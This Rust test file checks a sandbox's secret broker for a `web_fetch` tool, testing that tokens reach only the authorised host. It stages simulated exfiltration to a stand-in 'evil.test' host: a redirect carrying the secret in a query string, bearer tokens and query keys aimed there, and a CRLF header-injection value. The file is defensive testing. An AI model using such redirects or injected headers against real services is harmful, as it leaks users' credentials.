//! `web_fetch` under `serve` with brokered secrets: requests are given values that no process of the session has.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;

use bailiwick_testkit::servers::serve_tls;
use serde_json::{Value, json};

use super::secrets::{GRANT, VALUE, text};
use super::served::Served;
use super::servers::{self, Authority, Files, Seen};
use super::traces::{Traces, below};
use super::world::{Stage, in_world, test_name, users};
use super::{EVIL, GOOD};
use crate::run::eventually;

/// The value of another secret, for another port.
const OTHER: &str = "9dX2mQ7vLr4TzK8wYb3NcJ6hPs1GfEa5RuVo";

/// A host with a secret, one without, and the same host without TLS.
struct World {
    authority: Authority,
    good: Seen,
    evil: Seen,
    plain: Seen,
}

/// Answers with what was asked, in the body and in fields, or leads elsewhere.
fn answer(head: &str) -> Vec<u8> {
    let target = head.split(' ').nth(1).unwrap_or("/");
    let path = target.split('?').next().unwrap_or("/");
    let to = match path {
        "/away" => Some(format!("https://evil.test/x?of={VALUE}")),
        "/other-port" => Some("https://good.test:444/x".to_owned()),
        "/plain" => Some("http://good.test/x".to_owned()),
        "/here" => Some("/x".to_owned()),
        _ => None,
    };
    if let Some(to) = to {
        return format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\n\r\n").into_bytes();
    }
    let body = if path == "/echo" { head.to_owned() } else { "the answer".to_owned() };
    let kind = format!("Content-Type: text/plain; of={VALUE}\r\nX-Echo: {VALUE}");
    format!("HTTP/1.1 200 OK\r\n{kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
}

impl World {
    fn new() -> Self {
        let (authority, good) = (Authority::new(), Seen::default());
        let files: Files = Files::new([("/x".to_owned(), b"the answer".to_vec())].into());
        for port in [443, 444] {
            let (listener, keep) = (TcpListener::bind((GOOD, port)).unwrap(), good.clone());
            serve_tls(listener, authority.server(&["good.test"]), move |tls| {
                let (mut head, mut one) = (Vec::new(), [0]);
                while !head.ends_with(b"\r\n\r\n") {
                    if !matches!(tls.read(&mut one), Ok(1)) {
                        return;
                    }
                    head.push(one[0]);
                }
                keep.add(&text(&head));
                drop(tls.write_all(&answer(&text(&head))).and_then(|()| tls.flush()));
                tls.conn.send_close_notify();
                drop(tls.flush());
            });
        }
        let evil = servers::https(&format!("{EVIL}:443"), &authority, &["evil.test"], &files);
        let plain = servers::http(&format!("{GOOD}:80"), &files);
        Self { authority, good, evil, plain }
    }

    /// `serve` where `TOKEN` is for `good.test`, with more arguments.
    fn serve(&self, stage: &Stage, more: &[&str]) -> Served {
        let mut args = vec!["--secret", "TOKEN=env:THE_VALUE", "--cap", "net:connect:evil.test:443"];
        args.extend(more);
        Served::new(&self.authority, stage, &args)
    }

    fn heard(&self) -> String {
        [self.good.all(), self.evil.all(), self.plain.all()].concat().join("\n")
    }
}

fn fetch(served: &mut Served, url: &str, headers: Value) -> Value {
    served.call("web_fetch", json!({ "url": url, "headers": headers }))
}

/// Everything that a session has written down.
fn recorded(served: &Served) -> String {
    let files = servers::files(&served.journal);
    files.values().map(|bytes| text(bytes)).collect()
}

#[test]
fn a_fetch_is_given_a_secret_that_the_session_does_not_have() {
    if !in_world(test_name!()) {
        return;
    }
    let (world, traces) = (World::new(), Traces::of(&[VALUE]));
    for user in users() {
        let stage = Stage::new(*user);
        let mut served = world.serve(&stage, &["--cap", GRANT]);
        let before = world.good.count();
        let bearer = json!({ "Authorization": "Bearer ${TOKEN}", "Accept": "application/json" });
        let answer = fetch(&mut served, "https://good.test/x", bearer.clone());
        assert_eq!(answer["structuredContent"]["markdown"], "the answer", "{user:?} {answer}");
        let heard = world.good.all()[before..].join("\n").to_ascii_lowercase();
        let sent = format!("authorization: bearer {VALUE}").to_ascii_lowercase();
        assert!(heard.contains(&sent) && heard.contains("accept: application/json"), "{heard}");
        // Basic, whose user and password stand in base64; a field for keys; a redirect to the same server.
        for (path, field, value) in [
            ("/echo", "authorization", "Basic me:${TOKEN}"),
            ("/echo", "X-Api-Key", "${TOKEN}"),
            ("/here", "Authorization", "token ${TOKEN}"),
        ] {
            let answer = fetch(&mut served, &format!("https://good.test{path}"), json!({ field: value }));
            assert_eq!(answer["structuredContent"]["status"], 200, "{user:?} {path} {answer}");
            let said = answer.to_string();
            assert_eq!(traces.in_bytes(said.as_bytes()), 0, "{said}");
            assert!(path != "/echo" || said.contains("****"), "an echo is redacted: {said}");
        }
        let heard = world.good.all()[before..].join("\n").to_ascii_lowercase();
        let basic = base64_of(&format!("me:{VALUE}")).to_ascii_lowercase();
        assert!(heard.contains(&format!("basic {basic}")), "{heard}");
        assert!(heard.contains(&format!("x-api-key: {VALUE}").to_ascii_lowercase()), "{heard}");
        assert_eq!(heard.matches(&format!("token {VALUE}").to_ascii_lowercase()).count(), 2, "{heard}");
        // A request without a secret goes the same way.
        let answer = fetch(&mut served, "https://good.test/echo", json!({}));
        assert!(
            answer["structuredContent"]["markdown"].as_str().unwrap().starts_with("GET /echo"),
            "{answer}"
        );
        assert!(eventually(|| recorded(&served).contains("TOKEN put in")), "{}", recorded(&served));
        let record = recorded(&served);
        assert!(record.contains("secret-used"), "{record}");
        assert_eq!(traces.in_bytes(record.as_bytes()), 0, "{record}");
        if rustix::process::getuid().is_root() {
            assert_eq!(traces.in_process(served.child.id()), 0, "{user:?}: nor has the server itself");
            let holder = below(served.child.id());
            assert!(holder.iter().any(|pid| traces.in_process(*pid) > 0), "{holder:?}: one process has it");
        }
    }
}

fn base64_of(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}

#[test]
fn a_fetch_sends_a_secret_nowhere_else() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    for user in users() {
        let stage = Stage::new(*user);
        std::fs::write(stage.path("other"), OTHER).unwrap();
        let other = format!("OTHER=file:{}", stage.path("other").display());
        let caps = [
            "--cap",
            GRANT,
            "--cap",
            "env:inject:OTHER?broker=good.test:444",
            "--cap",
            "net:connect:good.test:80",
        ];
        let mut served = world.serve(&stage, &[&caps[..], &["--secret", &other]].concat());
        let bearer = |name: &str| json!({ "Authorization": format!("Bearer ${{{name}}}") });
        let own = json!({ "Authorization": "Bearer the-attackers-own-key" });
        let cases = [
            ("https://evil.test/x", bearer("TOKEN"), "secret-misdirected"),
            ("https://evil.test/x?key=${TOKEN}", json!({}), "secret-misdirected"),
            ("https://evil.test/x", own.clone(), "only to hosts of brokered secrets"),
            ("https://good.test/x", bearer("OTHER"), "secret-misdirected"),
            ("https://good.test/x", json!({ "X-Other": "${TOKEN}" }), "secret-misdirected"),
            ("https://good.test/x", json!({ "Authorization": "Bearer a${TOKEN}" }), "secret-misdirected"),
            ("https://good.test/x?key=${TOKEN}", json!({}), "secret-misdirected"),
            ("http://good.test/x", bearer("TOKEN"), "secret-in-the-clear"),
            ("http://good.test/x", json!({}), "secret-in-the-clear"),
            ("https://good.test/x", own, "secret-foreign"),
            ("https://good.test/x", json!({ "Cookie": "session=mine" }), "secret-foreign"),
            ("https://good.test/x?access_token=mine", json!({}), "secret-foreign"),
            ("https://good.test/x", bearer("HOME"), "stands for no secret"),
            ("https://good.test/x", bearer(""), "stands for no secret"),
            ("https://good.test/x", json!({ "Host": "evil.test" }), "for the tool itself"),
            ("https://good.test/x", json!({ "X-A": "a\r\nX-B: b" }), "printable ASCII"),
            ("https://good.test/x", json!({ "X A": "a" }), "no name of a header"),
        ];
        for (url, headers, why) in cases {
            let before = world.heard();
            let said = fetch(&mut served, url, headers.clone());
            assert_eq!(said["isError"], true, "{user:?} {url} {headers} {said}");
            assert!(said.to_string().contains(why), "{user:?} {url} {headers} {said}");
            assert_eq!(world.heard(), before, "{url} {headers}: no server heard anything");
            let is_on_record = || eventually(|| recorded(&served).contains(why));
            assert!(
                !why.starts_with("secret-") || is_on_record(),
                "{why} is on record: {}",
                recorded(&served)
            );
        }
        // Redirects: the first request is given the value, and nothing follows it elsewhere.
        for path in ["/away", "/other-port", "/plain"] {
            let (evil, plain, good) = (world.evil.count(), world.plain.count(), world.good.count());
            let said = fetch(&mut served, &format!("https://good.test{path}"), bearer("TOKEN"));
            assert_eq!(said["isError"], true, "{user:?} {path} {said}");
            let after = (world.evil.count(), world.plain.count(), world.good.count());
            assert_eq!(after, (evil, plain, good + 1), "{path}");
            assert!(!said.to_string().contains(VALUE), "{said}");
        }
        // The controls: without a secret the same ways are open.
        for url in ["https://evil.test/x", "https://good.test/away", "https://good.test/x?q=mine"] {
            let said = fetch(&mut served, url, json!({}));
            assert_eq!(said["structuredContent"]["status"], 200, "{user:?} {url} {said}");
        }
        let right = fetch(&mut served, "https://good.test:444/x", bearer("OTHER"));
        assert_eq!(right["structuredContent"]["status"], 200, "{right}");
        let written = recorded(&served) + &world.evil.all().concat();
        assert!(!written.contains(VALUE) && !written.contains(OTHER), "{written}");
    }
}

#[test]
fn a_manifest_says_how_every_tool_of_a_session_uses_a_secret() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    for user in users() {
        let stage = Stage::new(*user);
        let manifest = stage.path("session.toml");
        let lines = format!(
            "name = 'session'\nversion = '1'\nserver_capabilities = ['{GRANT}', 'exec:spawn:/usr/bin/curl', 'exec:spawn:/usr/bin/bash']\n\
             [secrets.TOKEN]\nquery = ['key']\nheaders = ['x-own']\nforeign = 'allow'\n\
             [[secrets.TOKEN.rules]]\nmethods = ['GET']\npaths = ['/x', '/echo']\n"
        );
        std::fs::write(&manifest, lines).unwrap();
        let narrower = stage.path("narrower.toml");
        let lines = format!(
            "name = 'narrower'\nversion = '1'\nserver_capabilities = ['{GRANT}']\n\
             [secrets.TOKEN]\nquery = ['key']\nheaders = ['x-own']\nforeign = 'allow'\n\
             [[secrets.TOKEN.rules]]\nmethods = ['GET', 'HEAD']\npaths = ['/x']\n"
        );
        std::fs::write(&narrower, lines).unwrap();
        let [manifest, narrower] = [&manifest, &narrower].map(|path| path.to_str().unwrap());
        let mut served = world.serve(&stage, &["--grant", manifest]);
        let before = world.good.count();
        for (url, headers) in [
            ("https://good.test/echo?a=b&key=${TOKEN}", json!({})),
            ("https://good.test/x", json!({ "X-Own": "${TOKEN}" })),
            ("https://good.test/x", json!({ "Authorization": "Bearer a-key-of-ones-own" })),
        ] {
            let said = fetch(&mut served, url, headers);
            assert_eq!(said["structuredContent"]["status"], 200, "{user:?} {url} {said}");
            assert_eq!(said["structuredContent"]["final_url"], url, "the name stays: {said}");
            assert!(!said.to_string().contains(VALUE), "{said}");
        }
        let heard = world.good.all()[before..].join("\n");
        assert!(heard.contains(&format!("key={VALUE}")) && heard.contains("a-key-of-ones-own"), "{heard}");
        let before = world.good.count();
        let asked =
            json!({ "url": "https://good.test/x", "method": "HEAD", "headers": { "X-Own": "${TOKEN}" } });
        for (asked, code) in [
            (asked, "secret-rule"),
            (json!({ "url": "https://good.test/y", "headers": { "X-Own": "${TOKEN}" } }), "secret-rule"),
        ] {
            let said = served.call("web_fetch", asked.clone());
            assert!(said["isError"] == true && said.to_string().contains(code), "{user:?} {asked} {said}");
        }
        let curl = |more: &str| {
            let ask = "/usr/bin/curl -sS -H \"Authorization: Bearer $TOKEN\" https://good.test/x";
            json!({ "program": "/usr/bin/bash", "args": ["-c", format!("{ask} {more}")] })
        };
        assert_eq!(world.good.count(), before, "nothing of these was sent");
        let said = served.call("shell", json!({ "cmd": "/usr/bin/curl \"$TOKEN\"" })).to_string();
        assert!(
            said.contains("let such a program expand it") && !said.contains("env:read"),
            "{user:?} {said}"
        );
        let said = served.call("shell", curl(""));
        assert_eq!(said["structuredContent"]["stdout"], "the answer", "{user:?} {said}");
        let before = world.good.count();
        let said = served.call("shell", curl("-X POST")).to_string();
        assert!(said.contains("rules do not cover") && world.good.count() == before, "{user:?} {said}");
        drop(served);
        std::fs::rename(stage.path("journal"), stage.path("earlier")).unwrap();
        // Of two manifests, what both say.
        let mut served = world.serve(&stage, &["--grant", manifest, "--grant", narrower]);
        let said = fetch(&mut served, "https://good.test/x", json!({ "X-Own": "${TOKEN}" }));
        assert_eq!(said["structuredContent"]["status"], 200, "{user:?} {said}");
        let said = fetch(&mut served, "https://good.test/echo", json!({ "X-Own": "${TOKEN}" })).to_string();
        assert!(said.contains("secret-rule"), "{user:?} {said}");
    }
}

#[test]
fn without_the_process_that_holds_them_a_fetch_reaches_no_host_of_secrets() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    for user in users() {
        let stage = Stage::new(*user);
        let mut served = world.serve(&stage, &["--cap", GRANT]);
        let bearer = json!({ "Authorization": "Bearer ${TOKEN}" });
        let said = fetch(&mut served, "https://good.test/x", bearer.clone());
        assert_eq!(said["structuredContent"]["status"], 200, "{said}");
        for pid in below(served.child.id()) {
            assert!(
                std::process::Command::new("kill").args(["-9", &pid.to_string()]).status().unwrap().success()
            );
        }
        let before = world.good.count();
        for headers in [bearer, json!({})] {
            let said = fetch(&mut served, "https://good.test/x", headers);
            assert_eq!(said["isError"], true, "{user:?} {said}");
        }
        assert_eq!(world.good.count(), before);
        let said = fetch(&mut served, "https://evil.test/x", json!({}));
        assert_eq!(said["structuredContent"]["status"], 200, "other hosts are as they were: {said}");
    }
}

#[test]
fn a_source_that_a_tool_may_read_serves_nothing() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    let stage = Stage::new(users()[0]);
    let (real, link) = (stage.directory("real"), stage.path("link"));
    std::fs::write(real.join("value"), VALUE).unwrap();
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let source = format!("TOKEN=file:{}", real.join("value").display());
    let elsewhere = stage.directory("elsewhere");
    for (granted, is_served) in [(&real, false), (&link, false), (&elsewhere, true)] {
        let mut command = crate::escape::as_user(stage.user, stage.path("bailiwick"));
        command.args(["serve", "--explain", "--cap", GRANT, "--secret", &source, "--cap"]);
        command.arg(format!("fs:read:{}/**", granted.display())).env_clear().env("HOME", stage.path(""));
        std::fs::write(stage.path("own.pem"), &world.authority.pem).unwrap();
        command.env("SSL_CERT_FILE", stage.path("own.pem")).current_dir(stage.path(""));
        let output = command.output().unwrap();
        let (said, why) = (text(&output.stdout), text(&output.stderr));
        assert_eq!(output.status.success(), is_served, "{} {said} {why}", granted.display());
        assert!(is_served || why.contains("the program may read `file:"), "{why}");
        let mediated =
            said.lines().any(|line| line.contains("web_fetch") && line.contains("secrets mediated"));
        assert_eq!(mediated, is_served, "{said}");
    }
}
